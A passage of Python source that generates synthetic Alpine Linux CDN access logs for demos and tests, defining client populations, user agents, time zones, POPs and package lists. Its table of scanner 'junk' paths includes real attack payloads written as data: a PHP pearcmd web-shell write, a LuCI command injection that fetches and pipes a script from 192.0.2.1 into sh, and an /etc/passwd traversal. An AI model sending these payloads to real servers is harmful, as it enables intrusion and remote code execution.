"""Synthetic dl-cdn.alpinelinux.org access logs, for demos, tests and benchmarks.

Everything written here is SYNTHETIC: file names say so (`synthetic-dl-cdn-<fmt>-<date>.log`) and
every output folder gets a `SYNTHETIC.txt`. Nothing here is a measurement of real traffic; the
mixes below are informed guesses built from the Alpine facts in the domain notes.

What makes the traffic realistic enough for the forecasting and placement analyses:
- a stable client population (IPs drawn from real networks per country, `data/country_networks.csv`,
  DB-IP City Lite, CC BY 4.0) whose members repeat over the day and keep their branch, arch and
  User-Agent;
- a diurnal cycle in each client's local time and a weekly cycle: servers checking in (304s) run
  all week, builds and downloads (bytes) follow office hours, home users peak in the evening;
- the branch mix from the Alpine release calendar (adoption ramp, long end-of-life tail), the
  `latest-stable` alias, edge; per-branch architectures; a release-day bump in image downloads;
- URL shapes, sizes, statuses and cache states per file kind; three CI networks as heavy hitters;
- ~0.1% malformed lines of the kinds real edges log.

`lines_per_day` is the volume of an ordinary weekday at TREND_EPOCH; each day's line count follows
`daily_lines`: the weekly cycle, a slow growth trend, the release bump after each x.y.0 release
(May and November) and a little noise, so that a forecast has something real to find. The weekly
cycle also shows in the mix (fewer builds and ISO downloads at weekends).

Output is deterministic: the same arguments give byte-identical files. A day's content depends on
the seed and its date (not on where it falls in the range), so overlapping ranges agree.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip as gzip_module
import hashlib
import ipaddress
import json
import math
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from importlib import resources
from pathlib import Path
from typing import BinaryIO

import numpy as np
import polars as pl

try:  # ISA-L gzip is ~4x faster than zlib at the same ratio.
    from isal import igzip as _igzip
except ImportError:  # pragma: no cover - isal is a declared dependency
    _igzip = None  # type: ignore[assignment]

FORMATS = ("combined", "fastly")
BLOCK_LINES = 100_000
HOST = "dl-cdn.alpinelinux.org"
SYSLOG_TAG = "dlcdn[322614]"
MALFORMED_RATE = 0.001

# Architectures in the order a client's fixed random number walks them (x86_64 first), with their
# request weights. mips64 exists only on v3.12-v3.14 (the calendar says which branch has what).
ARCHES = ("x86_64", "aarch64", "armv7", "armhf", "x86", "ppc64le", "s390x", "riscv64",
          "loongarch64", "mips64")  # fmt: skip
ARCH_WEIGHTS = np.array([55.0, 25.0, 5.0, 4.0, 4.0, 2.5, 1.5, 1.5, 0.5, 0.3])
# Relative size of the same file per arch (package builds, images).
ARCH_SIZE = np.array([1.0, 0.97, 0.86, 0.84, 0.9, 1.05, 1.02, 0.92, 0.95, 1.0])
REPOS = ("main", "community", "testing")

# Tables below are laid out by hand (rows of related values); the formatter leaves them alone.
# fmt: off
# --- Clients -------------------------------------------------------------------------------------
# Client kinds: (share of requests from ordinary clients, [(User-Agent, weight)], profile mix
# (server, work, home)). "server" hosts check in all week (apk's 4-hour index refresh), "work"
# follows office hours (CI, builds, downloads), "home" peaks in the evening. None = no User-Agent.
KINDS: dict[str, tuple[float, list[tuple[str | None, float]], tuple[float, float, float]]] = {
    "apk": (0.62, [("libfetch/2.0", 1.0)], (0.45, 0.42, 0.13)),
    "curl": (0.07, [("curl/7.81.0", 0.05), ("curl/7.88.1", 0.12), ("curl/8.5.0", 0.15),
                    ("curl/8.7.1", 0.1), ("curl/8.9.1", 0.08), ("curl/8.11.1", 0.15),
                    ("curl/8.12.1", 0.12), ("curl/8.14.1", 0.13), ("curl/8.17.0", 0.1)],
             (0.2, 0.7, 0.1)),
    "busybox-wget": (0.04, [("Wget", 1.0)], (0.2, 0.6, 0.2)),
    "wget": (0.025, [("Wget/1.21.4", 0.5), ("Wget/1.21.3", 0.2), ("Wget/1.25.0", 0.15),
                     ("Wget/1.20.3 (linux-gnu)", 0.1), ("Wget/1.21.2", 0.05)], (0.2, 0.6, 0.2)),
    "buildkit": (0.025, [("buildkit/v0.12", 0.15), ("buildkit/v0.17", 0.3), ("buildkit/v0.20", 0.3),
                         ("buildkit/v0.25 moby/v28.5", 0.25)], (0.0, 1.0, 0.0)),
    "go": (0.02, [("Go-http-client/1.1", 0.85), ("Go-http-client/2.0", 0.15)], (0.3, 0.7, 0.0)),
    "python": (0.015, [("python-requests/2.31.0", 0.3), ("python-requests/2.32.3", 0.35),
                       ("python-requests/2.32.5", 0.2), ("Python-urllib/3.11", 0.1),
                       ("Python-urllib/3.12", 0.05)], (0.4, 0.6, 0.0)),
    "browser": (0.015, [
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/142.0.0.0 Safari/537.36", 0.35),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", 0.2),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", 0.1),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/142.0.0.0 Safari/537.36", 0.15),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
         "Version/26.1 Safari/605.1.15", 0.1),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0", 0.1)], (0.0, 0.45, 0.55)),
    "crawler": (0.02, [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0.4),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 0.3),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 0.15),
        ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0.15)],
        (1.0, 0.0, 0.0)),
    "proxy": (0.03, [("Artifactory/7.77.5 77705900", 0.3), ("Artifactory/7.98.14 79814900", 0.35),
                     ("Artifactory/7.111.8 711108900", 0.25),
                     ("Nexus/3.68.1-02 (OSS; Linux; 5.15.0-105-generic; amd64; 17.0.10)", 0.1)],
              (1.0, 0.0, 0.0)),
    "scanner": (0.012, [(None, 0.75), ("Mozilla/5.0 zgrab/0.x", 0.15),
                        ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
                         0.1)], (1.0, 0.0, 0.0)),
    "ipxe": (0.002, [("iPXE/1.21.1+", 0.7), ("iPXE/1.20.1+", 0.3)], (0.3, 0.7, 0.0)),
    "repology": (0.001, [("repology-fetcher/0 (+https://repology.org/docs/bots)", 1.0)],
                 (1.0, 0.0, 0.0)),
}
PROFILES = ("server", "work", "home", "ci")
# Heavy hitters: three CI networks (one /24 each) looping the index and the same packages.
HEAVY_HITTERS = (  # (country, share of all requests, branch choice, arches, hosts in the /24)
    ("US", 0.03, "second-newest", ("x86_64",), 24),
    ("DE", 0.03, "edge", ("x86_64", "aarch64"), 12),
    ("NL", 0.03, "latest-stable", ("aarch64",), 8),
)

# --- Requests ------------------------------------------------------------------------------------
TYPES = ("apkindex", "package", "release", "checksum", "signature", "release_index", "netboot",
         "cloud", "mirrors", "last_updated", "directory", "junk")
T = {name: i for i, name in enumerate(TYPES)}
RELEASE_TYPES = [T[t] for t in ("release", "checksum", "signature", "release_index", "netboot",
                                "cloud")]
FLAVORS = ("minirootfs", "standard", "virt", "extended", "netboot")
FLAVOR_EXT = ("tar.gz", "iso", "iso", "iso", "tar.gz")
# Which arches have which flavor (domain notes §1.4); a request for a missing one asks minirootfs.
FLAVOR_ARCHES = {
    "minirootfs": set(ARCHES),
    "standard": {"x86", "x86_64", "aarch64", "armv7", "ppc64le", "s390x", "riscv64", "loongarch64"},
    "virt": {"x86", "x86_64", "aarch64", "armv7"},
    "extended": {"x86", "x86_64"},
    "netboot": set(ARCHES) - {"mips64"},
}
FLAVOR_SIZE = np.array([3_700_000, 262_000_000, 64_000_000, 1_050_000_000, 185_000_000])
FLAVOR_MIX = {  # per behaviour group: minirootfs-heavy scripts vs ISO-heavy people and tools
    "scripts": [0.9, 0.04, 0.03, 0.01, 0.02],
    "people": [0.17, 0.35, 0.3, 0.08, 0.1],
    "mixed": [0.5, 0.2, 0.15, 0.05, 0.1],
}
NETBOOT_FILES = (("vmlinuz-lts", 12_500_000), ("initramfs-lts", 19_000_000),
                 ("modloop-lts", 131_000_000), ("vmlinuz-virt", 7_800_000),
                 ("initramfs-virt", 10_400_000), ("modloop-virt", 22_867_968))
CLOUDS = (("aws", "vhd"), ("nocloud", "qcow2"), ("generic", "qcow2"), ("azure", "vhd"))
FIRST_CLOUD_BRANCH = (3, 18)

# Behaviours: (kind, profile) -> (request type weights, P(304 on the index), flavor mix,
# P(HEAD on release files), P(206 on big files)).
_B = dict[str, float]
BEHAVIOURS: dict[str, tuple[_B, float, str, float, float]] = {
    "apk-server": ({"apkindex": 0.75, "package": 0.25}, 0.86, "mixed", 0.0, 0.002),
    "apk-work": ({"apkindex": 0.22, "package": 0.78}, 0.06, "mixed", 0.0, 0.002),
    "apk-home": ({"apkindex": 0.35, "package": 0.63, "directory": 0.02}, 0.5, "mixed", 0.0, 0.005),
    "curl": ({"apkindex": 0.18, "package": 0.1, "release": 0.22, "checksum": 0.14,
              "signature": 0.02, "release_index": 0.2, "netboot": 0.02, "cloud": 0.02,
              "mirrors": 0.02, "last_updated": 0.03, "directory": 0.02},
             0.1, "scripts", 0.05, 0.05),
    "busybox-wget": ({"apkindex": 0.45, "package": 0.2, "release": 0.15, "checksum": 0.05,
                      "release_index": 0.05, "netboot": 0.03, "mirrors": 0.03,
                      "last_updated": 0.02}, 0.0, "scripts", 0.0, 0.02),
    "wget": ({"release": 0.15, "checksum": 0.15, "signature": 0.05, "apkindex": 0.15,
              "package": 0.15, "mirrors": 0.08, "release_index": 0.05, "netboot": 0.05,
              "directory": 0.05}, 0.0, "people", 0.0, 0.15),
    "buildkit": ({"release": 0.65, "checksum": 0.05, "package": 0.25, "apkindex": 0.05}, 0.0,
                 "scripts", 0.4, 0.0),
    "go": ({"release": 0.12, "checksum": 0.25, "cloud": 0.05, "release_index": 0.2,
            "apkindex": 0.15, "package": 0.1}, 0.0, "mixed", 0.05, 0.1),
    "python": ({"release_index": 0.3, "checksum": 0.15, "release": 0.15, "apkindex": 0.2,
                "package": 0.1, "mirrors": 0.05, "last_updated": 0.05}, 0.05, "scripts", 0.0,
               0.02),
    "browser": ({"release": 0.25, "checksum": 0.12, "signature": 0.08, "directory": 0.35,
                 "cloud": 0.02, "mirrors": 0.03, "junk": 0.15}, 0.0, "people", 0.0, 0.25),
    "crawler": ({"directory": 0.6, "junk": 0.08, "package": 0.15, "signature": 0.07,
                 "checksum": 0.05, "mirrors": 0.05}, 0.0, "people", 0.0, 0.0),
    "proxy": ({"apkindex": 0.35, "package": 0.65}, 0.3, "mixed", 0.0, 0.0),
    "scanner": ({"junk": 0.85, "directory": 0.1, "mirrors": 0.05}, 0.0, "mixed", 0.0, 0.0),
    "ipxe": ({"netboot": 1.0}, 0.0, "scripts", 0.0, 0.0),
    "repology": ({"apkindex": 1.0}, 0.0, "mixed", 0.0, 0.0),
    "ci-loop": ({"apkindex": 0.3, "package": 0.7}, 0.0, "scripts", 0.0, 0.0),
}
BEH = {name: i for i, name in enumerate(BEHAVIOURS)}

# Paths that are not part of the mirror tree: (path after "/", status, bytes, weight, POST share).
JUNK = (
    ("", 200, 612, 0.18, 0.0),
    ("favicon.ico", 404, 153, 0.2, 0.0),
    ("robots.txt", 200, 26, 0.12, 0.0),
    ("alpine", 301, 169, 0.05, 0.0),
    ("wp-login.php", 404, 153, 0.08, 0.5),
    (".env", 404, 153, 0.08, 0.0),
    (".git/config", 404, 153, 0.05, 0.0),
    ("wp-admin/setup-config.php", 404, 153, 0.03, 0.0),
    ("server-status", 404, 153, 0.02, 0.0),
    ("sitemap.xml", 404, 153, 0.03, 0.0),
    (".well-known/security.txt", 404, 153, 0.02, 0.0),
    ("vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 153, 0.03, 0.5),
    ('index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?='
     'shell_exec($_GET["c"])?>+/tmp/x.php', 404, 153, 0.02, 0.0),
    ("cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget -O- "
     "http://192.0.2.1/t|sh`)", 404, 153, 0.02, 0.0),
    ("alpine/v3.99/main/x86_64/APKINDEX.tar.gz", 404, 153, 0.03, 0.0),
    ("alpine/latest-stable/main/x86_64/APKINDEX.tar.gz.sig", 404, 153, 0.02, 0.0),
    ("alpine/v3.20/main/x86_64/caf%C3%A9-1.0-r0.apk", 404, 153, 0.01, 0.0),
    ("%2e%2e/%2e%2e/etc/passwd", 400, 157, 0.01, 0.0),
)
# Query strings seen on crawlers (nginx autoindex sort links) and cache-busting scripts.
QUERIES = ("", "?C=M;O=D", "?C=N;O=A", "?C=S;O=D", "?nocache=1", "?v=2")
REFERERS = (None, "https://alpinelinux.org/downloads/", "https://dl-cdn.alpinelinux.org/alpine/",
            "https://www.google.com/", "https://wiki.alpinelinux.org/")
METHODS = ("GET", "HEAD", "POST", "PURGE")
PROTOCOLS_COMBINED = ("HTTP/1.1", "HTTP/2.0", "HTTP/1.0", "HTTP/2.0")
PROTOCOLS_FASTLY = ("HTTP/1.1", "HTTP/2", "HTTP/1.0", "HTTP/3")
STATES = ("HIT", "MISS", "PASS", "HIT-STALE", "HIT-CLUSTER", "MISS-CLUSTER", "ERROR")

# --- Places --------------------------------------------------------------------------------------
# Per country: zones of (UTC offset in hours, share of the country's networks, Fastly POPs there).
# Standard time; DST does not matter for a diurnal shape. POPs stay on the client's continent.
ZONES: dict[str, tuple[tuple[float, float, tuple[str, ...]], ...]] = {
    "US": ((-5, 0.5, ("IAD", "EWR", "ATL", "MIA")), (-6, 0.3, ("ORD", "DFW")),
           (-7, 0.05, ("DEN",)), (-8, 0.15, ("SJC", "LAX", "SEA"))),
    "CA": ((-5, 0.6, ("YYZ",)), (-7, 0.15, ("YVR",)), (-8, 0.25, ("YVR",))),
    "MX": ((-6, 1.0, ("DFW", "MIA")),),
    "RU": ((3, 0.7, ("HEL", "FRA", "BMA")), (5, 0.15, ("HEL",)), (7, 0.15, ("HEL",))),
    "AU": ((10, 0.75, ("SYD", "MEL", "BNE")), (8, 0.15, ("PER",)), (9.5, 0.1, ("SYD",))),
    "BR": ((-3, 1.0, ("GRU",)),),
    "KZ": ((5, 1.0, ("FJR",)),),
    "ID": ((7, 1.0, ("SIN",)),),
    "CN": ((8, 1.0, ("HKG",)),),
    "IN": ((5.5, 1.0, ("BOM", "DEL", "MAA")),),
}
# Single-zone countries: UTC offset, POPs.
COUNTRY_ZONE: dict[str, tuple[float, tuple[str, ...]]] = {
    "DE": (1, ("FRA",)), "FR": (1, ("CDG",)), "GB": (0, ("LHR", "MAN")), "NL": (1, ("AMS",)),
    "PL": (1, ("WAW",)), "IT": (1, ("MXP",)), "ES": (1, ("MAD",)), "SE": (1, ("BMA",)),
    "CH": (1, ("FRA", "MXP")), "FI": (2, ("HEL",)), "UA": (2, ("WAW", "FRA")),
    "CZ": (1, ("VIE", "FRA")), "AT": (1, ("VIE",)), "BE": (1, ("AMS", "CDG")), "IE": (0, ("DUB",)),
    "DK": (1, ("CPH",)), "NO": (1, ("OSL",)), "RO": (2, ("VIE", "FRA")), "PT": (0, ("MAD",)),
    "HU": (1, ("VIE",)), "GR": (2, ("VIE", "MXP")), "BG": (2, ("VIE",)), "LU": (1, ("FRA", "AMS")),
    "LT": (2, ("WAW",)), "SK": (1, ("VIE",)), "EE": (2, ("HEL",)), "LV": (2, ("HEL",)),
    "SI": (1, ("VIE",)), "HR": (1, ("VIE",)), "RS": (1, ("VIE",)),
    "JP": (9, ("NRT", "ITM")), "SG": (8, ("SIN",)), "KR": (9, ("NRT", "ITM")), "HK": (8, ("HKG",)),
    "TW": (8, ("HKG", "NRT")), "VN": (7, ("SIN", "HKG")), "TR": (3, ("FJR",)), "IL": (2, ("FJR",)),
    "TH": (7, ("SIN",)), "MY": (8, ("SIN",)), "PH": (8, ("HKG", "SIN")), "AE": (4, ("FJR",)),
    "IR": (3.5, ("FJR",)), "PK": (5, ("BOM",)), "BD": (6, ("MAA", "SIN")), "SA": (3, ("FJR",)),
    "AR": (-3, ("EZE",)), "CL": (-4, ("SCL",)), "CO": (-5, ("BOG",)), "PE": (-5, ("BOG", "SCL")),
    "NZ": (12, ("AKL",)), "ZA": (2, ("JNB", "CPT")), "EG": (2, ("JNB",)), "NG": (1, ("JNB",)),
    "KE": (3, ("JNB",)), "MA": (0, ("JNB",)),
}
CONTINENT_ZONE = {"EU": (1, ("FRA", "AMS")), "NA": (-5, ("IAD",)), "AS": (8, ("SIN", "HKG")),
                  "OC": (10, ("SYD",)), "SA": (-3, ("GRU",)), "AF": (2, ("JNB",))}
# ICAO-style site code in Fastly cache node names (cache-fra-eddf8230041).
POP_SITE = {
    "FRA": "eddf", "AMS": "ehaa", "LHR": "egll", "MAN": "egcc", "CDG": "lfpg", "MAD": "lemd",
    "MXP": "limc", "BMA": "essb", "CPH": "ekch", "VIE": "loww", "WAW": "epwa", "DUB": "eidw",
    "OSL": "engm", "HEL": "efhk", "IAD": "kiad", "EWR": "kewr", "ATL": "katl", "MIA": "kmia",
    "ORD": "kord", "DFW": "kdfw", "DEN": "kden", "SEA": "ksea", "SJC": "ksjc", "LAX": "klax",
    "YYZ": "cyyz", "YVR": "cyvr", "NRT": "rjaa", "ITM": "rjoo", "HKG": "vhhh", "SIN": "wsss",
    "BOM": "vabb", "DEL": "vidp", "MAA": "vomm", "FJR": "omfj", "SYD": "yssy", "MEL": "ymml",
    "BNE": "ybbn", "PER": "ypph", "AKL": "nzaa", "GRU": "sbgr", "EZE": "saez", "SCL": "scel",
    "BOG": "skbo", "JNB": "fajs", "CPT": "fact",
}
POPS = tuple(POP_SITE)
NODES_PER_POP = 24

# --- Packages ------------------------------------------------------------------------------------
# Real Alpine package names, most requested first (order drives the Zipf popularity).
MAIN_PACKAGES = [
    "musl", "busybox", "alpine-baselayout", "alpine-baselayout-data", "alpine-keys", "apk-tools",
    "libapk", "ca-certificates-bundle", "ca-certificates", "libcrypto3", "libssl3", "zlib",
    "ssl_client", "scanelf", "musl-utils", "libc-utils", "busybox-binsh", "alpine-release",
    "tzdata", "ncurses-terminfo-base", "libncursesw", "readline", "bash", "libcurl", "curl",
    "nghttp2-libs", "brotli-libs", "c-ares", "libidn2", "libunistring", "libpsl", "zstd-libs",
    "xz-libs", "libgcc", "libstdc++", "pcre2", "git", "libexpat", "openssh-keygen",
    "openssh-client-common", "openssh-client-default", "openssl", "gcc", "g++", "musl-dev",
    "binutils", "make", "libc-dev", "build-base", "fortify-headers", "patch", "file", "libmagic",
    "gmp", "mpfr4", "mpc1", "isl26", "libatomic", "libgomp", "jansson", "python3", "python3-pyc",
    "libffi", "gdbm", "sqlite-libs", "libbz2", "mpdecimal", "py3-pip", "py3-setuptools",
    "py3-packaging", "py3-parsing", "jq", "oniguruma", "tini", "su-exec", "shadow", "sudo",
    "coreutils", "findutils", "grep", "sed", "gawk", "tar", "gzip", "bzip2", "xz", "unzip", "zip",
    "libuuid", "libblkid", "libmount", "util-linux", "e2fsprogs", "openrc", "linux-lts",
    "linux-virt", "linux-firmware-none", "mkinitfs", "syslinux", "grub", "grub-efi", "efibootmgr",
    "dhcpcd", "chrony", "openssh-server", "openssh", "iproute2", "iptables", "ip6tables",
    "nftables", "libmnl", "libnftnl", "bind-tools", "tcpdump", "libpcap", "nginx", "perl",
    "perl-error", "perl-git", "lua5.4", "lua5.4-libs", "icu-data-full", "icu-libs", "libxml2",
    "libxslt", "libedit", "libpq", "postgresql17-client", "rsync", "lz4-libs", "acl-libs", "attr",
    "libcap2", "linux-pam", "libtirpc", "krb5-libs", "keyutils-libs", "libverto", "libcom_err",
    "cyrus-sasl", "libldap", "gnutls", "nettle", "p11-kit", "libtasn1", "libgpg-error",
    "libgcrypt", "gnupg", "gpgme", "libassuan", "npth", "libksba", "dbus-libs", "dbus",
    "eudev-libs", "libeconf", "argon2-libs", "cryptsetup-libs", "device-mapper-libs", "lvm2",
    "json-c", "libsodium", "pcre", "libevent", "libunwind", "llvm19-libs", "clang19-libs", "cmake",
    "samurai", "meson", "pkgconf", "autoconf", "automake", "libtool", "m4", "bison", "flex",
    "gettext", "gettext-libs", "libintl", "rust", "cargo", "nodejs", "yaml", "libyaml", "py3-yaml",
    "linux-headers", "freetype", "libpng", "libjpeg-turbo", "libwebp", "tiff", "fontconfig",
    "harfbuzz", "glib", "pango", "cairo", "pixman", "libx11", "libxcb", "libxau", "libxdmcp",
    "libxext", "libxrender", "libxft", "mesa-gl", "mesa-dri-gallium", "wayland-libs-client",
    "apk-tools-static", "busybox-static", "busybox-extras", "openldap-clients", "sqlite",
    "iputils", "net-snmp-libs", "logrotate", "cronie", "haveged", "ifupdown-ng", "kbd-bkeymaps",
    "alpine-conf", "alpine-base", "doas", "man-pages", "mandoc", "less", "nano", "vim",
]
COMMUNITY_PACKAGES = [
    "docker", "docker-cli", "docker-engine", "containerd", "runc", "tini-static", "go", "npm",
    "yarn", "nodejs-current", "valkey", "redis", "postgresql17", "mariadb", "mariadb-client",
    "mysql-client", "php83", "php83-fpm", "php83-common", "php84", "composer",
    "openjdk17-jre-headless", "openjdk21-jre-headless", "openjdk21-jdk", "maven", "gradle", "ruby",
    "ruby-bundler", "py3-requests", "py3-urllib3", "py3-certifi", "py3-idna",
    "py3-charset-normalizer", "py3-six", "py3-wheel", "py3-virtualenv", "py3-cryptography",
    "py3-cffi", "py3-pycparser", "py3-numpy", "py3-pandas", "py3-jinja2", "py3-markupsafe",
    "py3-click", "py3-dateutil", "py3-tz", "py3-psycopg2", "py3-pillow", "py3-lxml", "py3-boto3",
    "py3-botocore", "py3-s3transfer", "py3-jmespath", "ansible", "ansible-core", "helm", "kubectl",
    "k9s", "kustomize", "podman", "buildah", "skopeo", "crun", "conmon", "fuse-overlayfs",
    "slirp4netns", "netavark", "aardvark-dns", "ffmpeg", "ffmpeg-libavcodec", "imagemagick",
    "ghostscript", "libreoffice", "chromium", "firefox", "thunderbird", "vlc", "gimp", "inkscape",
    "kicad", "blender", "ghc", "cabal", "texlive", "texmf-dist", "elixir", "erlang", "zig",
    "dotnet8-sdk", "dotnet8-runtime", "aspnetcore8-runtime", "neovim", "emacs", "micro", "helix",
    "tmux", "screen", "htop", "btop", "fish", "zsh", "starship", "fzf", "ripgrep", "fd", "bat",
    "eza", "yq", "age", "sops", "restic", "rclone", "borgbackup", "syncthing", "nextcloud",
    "gitea", "forgejo", "grafana", "prometheus", "prometheus-node-exporter", "loki", "promtail",
    "telegraf", "influxdb", "victoria-metrics", "caddy", "traefik", "haproxy", "envoy", "consul",
    "vault", "nomad", "etcd", "coredns", "unbound", "dnsmasq", "wireguard-tools", "tailscale",
    "openvpn", "strongswan", "frr", "bird", "keepalived", "fail2ban", "crowdsec", "certbot",
    "acme.sh", "lego", "step-cli", "cosign", "syft", "grype", "trivy", "hadolint", "shellcheck",
    "shfmt", "yamllint", "jsonnet", "protobuf", "protoc", "grpc", "nats-server", "rabbitmq-server",
    "kafka", "zookeeper", "minio", "minio-client", "mosquitto", "signon-ui", "qemu", "qemu-img",
    "qemu-system-x86_64", "libvirt", "virt-install", "open-vm-tools", "cloud-init",
    "cloud-utils-growpart", "e2fsprogs-extra", "xfsprogs", "btrfs-progs", "zfs", "zfs-lts",
    "mdadm", "smartmontools", "nvme-cli", "hdparm", "parted", "sfdisk", "lsblk", "pciutils",
    "usbutils", "dmidecode", "lm-sensors", "iperf3", "mtr", "nmap", "netcat-openbsd", "socat",
    "ncdu", "tree", "pv", "rsyslog", "syslog-ng", "vector", "fluent-bit", "clamav", "postfix",
    "dovecot", "opensmtpd", "rspamd", "spamassassin", "bind", "knot-resolver", "powerdns", "samba",
    "nfs-utils", "cifs-utils", "sshfs", "s3fs-fuse", "lighttpd", "apache2", "php83-apache2",
    "uwsgi", "gunicorn", "supervisor", "s6", "s6-overlay", "runit", "dumb-init", "gosu",
    "catatonit", "xorg-server", "xf86-video-fbdev", "sway", "foot", "wayland", "plasma-desktop",
    "gnome-shell", "xfce4", "lxqt-desktop", "pipewire", "wireplumber", "pulseaudio", "alsa-utils",
]
# Families of modules: each becomes e.g. py3-<name>; most get a -pyc subpackage as in Alpine.
PY3_MODULES = [
    "attrs", "pluggy", "iniconfig", "pytest", "pytest-cov", "coverage", "mock", "toml", "tomli",
    "tomli-w", "typing-extensions", "pydantic", "pydantic-core", "annotated-types", "anyio",
    "sniffio", "h11", "httpcore", "httpx", "websockets", "aiohttp", "aiosignal", "frozenlist",
    "multidict", "yarl", "async-timeout", "ujson", "orjson", "simplejson", "msgpack", "cachetools",
    "platformdirs", "filelock", "distlib", "virtualenv-clone", "pyrsistent", "jsonschema",
    "referencing", "rpds-py", "docutils", "sphinx", "babel", "pygments", "rich", "markdown-it-py",
    "mdurl", "commonmark", "colorama", "termcolor", "tabulate", "prompt_toolkit", "wcwidth",
    "tqdm", "psutil", "netaddr", "netifaces", "paramiko", "bcrypt", "pynacl", "asn1crypto",
    "pyopenssl", "service_identity", "twisted", "zope-interface", "automat", "constantly",
    "hyperlink", "incremental", "flask", "werkzeug", "itsdangerous", "blinker", "django", "gevent",
    "greenlet", "sqlalchemy", "alembic", "mako", "redis", "celery", "kombu", "vine", "billiard",
    "amqp", "scipy", "matplotlib", "kiwisolver", "cycler", "fonttools", "contourpy",
    "scikit-learn", "joblib", "threadpoolctl", "sympy", "mpmath", "networkx", "pyzmq", "tornado",
    "jupyter-core", "traitlets", "decorator", "pexpect", "ptyprocess", "ipython", "jedi", "parso",
    "dnspython", "ldap3", "pyasn1", "pyasn1-modules", "rsa", "google-auth", "oauthlib",
    "requests-oauthlib", "httplib2", "uritemplate", "pyserial", "smbus2", "gpiozero", "evdev",
]
PERL_MODULES = [
    "uri", "libwww", "http-message", "http-date", "http-cookies", "lwp-mediatypes",
    "encode-locale", "io-html", "html-parser", "html-tagset", "net-http", "net-ssleay",
    "io-socket-ssl", "mozilla-ca", "try-tiny", "module-runtime", "class-method-modifiers", "moo",
    "role-tiny", "sub-quote", "json", "json-xs", "types-serialiser", "common-sense",
    "yaml-libyaml", "dbi", "dbd-pg", "dbd-mysql", "dbd-sqlite", "datetime", "datetime-locale",
    "datetime-timezone", "params-validate", "list-moreutils", "exporter-tiny", "file-which",
    "file-slurp", "path-tiny", "capture-tiny", "test-fatal", "test-deep", "test-warnings",
    "text-csv", "xml-parser", "xml-libxml", "mime-types", "mail-tools", "time-hires",
    "digest-sha1", "digest-hmac", "crypt-openssl-rsa", "authen-sasl", "net-dns", "net-ip",
]
PHP_EXTENSIONS = [
    "curl", "mbstring", "openssl", "pdo", "pdo_mysql", "pdo_pgsql", "pdo_sqlite", "mysqli",
    "pgsql", "sqlite3", "xml", "dom", "simplexml", "xmlreader", "xmlwriter", "tokenizer", "ctype",
    "fileinfo", "iconv", "intl", "zip", "gd", "bcmath", "gmp", "sodium", "session", "phar",
    "opcache", "pecl-redis", "pecl-apcu", "pecl-imagick", "pecl-xdebug", "sockets", "exif",
    "pcntl", "posix", "ldap", "soap",
]
RUBY_GEMS = [
    "rake", "minitest", "json", "bigdecimal", "nokogiri", "racc", "rack", "rails", "puma",
    "bundler", "ffi", "rexml", "webrick", "net-http", "psych", "io-console", "reline", "irb",
    "rdoc", "erb",
]
LUA_MODULES = [
    "cjson", "socket", "sec", "filesystem", "posix", "lpeg", "http", "cqueues", "openssl",
    "resty-core", "luv", "penlight",
]
FONTS = [
    "dejavu", "noto", "noto-cjk", "noto-emoji", "liberation", "roboto", "inter", "jetbrains-mono",
    "fira-code", "source-code-pro", "ubuntu", "terminus", "hack", "cantarell", "opensans",
    "awesome", "ibm-plex", "iosevka",
]
FIRMWARE = [
    "other", "amdgpu", "i915", "intel", "iwlwifi", "realtek", "rtl_nic", "rtlwifi", "brcm",
    "ath10k", "ath11k", "mediatek", "nvidia", "qcom", "mellanox", "bnx2x", "qlogic", "cypress",
    "ti-connectivity", "netronome", "cirrus",
]
# Edge-only testing repository: made-up but plausible names.
TESTING_STEMS = [
    "zen", "kube", "flux", "nova", "orbit", "tera", "ora", "luma", "vex", "quark", "helio",
    "nimbus", "cirrus", "borealis", "pico", "lumen", "atlas",
]
TESTING_SUFFIXES = [
    "ctl", "d", "-cli", "-server", "-agent", "-exporter", "-gui", "-proxy", "-sync", "-tools",
]
# Sizes (bytes) of big packages: the lognormal tail alone rarely reaches these.
BIG_PACKAGES = {
    "linux-lts": 31e6, "linux-virt": 15e6, "gcc": 28e6, "llvm19-libs": 36e6, "clang19-libs": 31e6,
    "rust": 62e6, "cargo": 8e6, "go": 58e6, "nodejs": 15e6, "nodejs-current": 16e6,
    "openjdk17-jre-headless": 45e6, "openjdk21-jre-headless": 48e6, "openjdk21-jdk": 85e6,
    "chromium": 105e6, "firefox": 72e6, "thunderbird": 68e6, "libreoffice": 160e6,
    "ghc": 150e6, "texmf-dist": 180e6, "dotnet8-sdk": 130e6, "icu-data-full": 31e6,
    "mesa-dri-gallium": 21e6, "docker-engine": 25e6, "containerd": 21e6, "python3": 13e6,
    "perl": 7e6, "git": 7e6, "binutils": 7.5e6, "musl-dev": 3.4e6, "blender": 95e6,
    "qemu-system-x86_64": 12e6, "zig": 55e6, "grafana": 55e6, "erlang": 30e6,
}
# Well-known versions on edge (older branches drift back from these).
KNOWN_VERSIONS = {
    "musl": "1.2.5", "busybox": "1.37.0", "alpine-baselayout": "3.7.0", "apk-tools": "2.14.10",
